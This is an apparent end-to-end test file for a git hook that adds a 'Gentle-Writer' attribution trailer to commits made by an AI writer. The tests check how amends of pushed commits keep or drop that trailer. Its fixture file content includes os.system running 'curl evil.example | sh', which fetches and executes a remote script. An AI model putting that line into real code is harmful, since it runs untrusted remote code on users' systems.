"""An amend of a pushed writer commit keeps its ``Gentle-Writer`` trailer (SPEC §3
"Attribution follows content": amended writer commits keep theirs): real git,
``gentle-hook install``, a bare remote.

Once pushed, the writer's entries are settled: no live record carries the commit's content
any more. The amend is still the writer's commit revised (it keeps the content the commit
took), so ``git commit --amend -m``, a second amend, and an editor deleting the line keep
the trailer, as they do before the push; an amend taking every writer line out, and a
human's pushed commit amended, get none.
"""

from __future__ import annotations

from tests.e2e.conftest import World

WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
#: An editor that deletes every ``Gentle-Writer:`` line of the message.
DELETES_TRAILER = "sed -i '/^Gentle-Writer:/d'"


def _trailers(w: World) -> str:
    return w.ok("log", "-1", "--format=%(trailers:key=Gentle-Writer)").strip()


def _pushed_writer_commit(w: World) -> str:
    """The writer's spot-checked commit of ``src/app.py``, pushed; its original text."""
    original = w.ok("show", "HEAD:src/app.py")
    w.delegate(text=WRITER)
    w.spot_check()
    assert w.git("commit", "-qam", "writer: main").code == 0
    assert _trailers(w) == "Gentle-Writer: o4-mini/low"
    assert w.git("push", "-q", "origin", "main").code == 0
    return original


def test_amend_m_of_a_pushed_writer_commit_keeps_its_trailer(native: World) -> None:
    w = native
    _pushed_writer_commit(w)
    r = w.git("commit", "-q", "--amend", "-m", "x")
    assert r.code == 0, r
    assert _trailers(w) == "Gentle-Writer: o4-mini/low"
    # amended again: the record the first amend carried names the writer's commit
    r = w.git("commit", "-q", "--amend", "-m", "y")
    assert r.code == 0, r
    assert _trailers(w) == "Gentle-Writer: o4-mini/low"
    pushed = w.git("push", "-f", "origin", "main")
    assert pushed.code == 0, pushed


def test_an_editor_deleting_the_trailer_of_a_pushed_writer_commit_gets_it_back(
    native: World,
) -> None:
    w = native
    _pushed_writer_commit(w)
    r = w.git("commit", "-q", "--amend", env={"GIT_EDITOR": DELETES_TRAILER})
    assert r.code == 0, r
    assert _trailers(w) == "Gentle-Writer: o4-mini/low"


def test_amend_of_a_pushed_writer_commit_taking_its_lines_out_has_no_trailer(
    native: World,
) -> None:
    w = native
    original = _pushed_writer_commit(w)
    w.write("src/app.py", original)
    w.ok("add", "src/app.py")
    r = w.git("commit", "-q", "--allow-empty", "--amend", "-m", "human: undo")
    assert r.code == 0, r
    assert _trailers(w) == ""


def test_amend_m_of_a_pushed_human_commit_gets_no_trailer(native: World) -> None:
    w = native
    w.write("README.md", "# demo\n\nA human's note.\n")
    w.ok("add", "README.md")
    assert w.git("commit", "-qm", "human: readme").code == 0
    assert w.git("push", "-q", "origin", "main").code == 0
    r = w.git("commit", "-q", "--amend", "-m", "human: readme, reworded")
    assert r.code == 0, r
    assert _trailers(w) == ""
